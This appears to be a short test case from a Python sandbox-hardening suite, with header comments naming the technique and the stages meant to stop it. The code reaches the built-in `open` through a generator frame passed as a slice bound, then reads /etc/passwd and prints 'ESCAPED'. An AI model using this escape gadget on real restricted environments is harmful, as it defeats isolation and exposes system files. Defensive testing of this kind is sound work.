# tries: an attribute in the bound of a slice
# class: gadgets
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


def g():
    yield


class Catch:
    def __getitem__(self, item):
        return item.stop


use(pick(Catch()[1:g().gi_frame]))
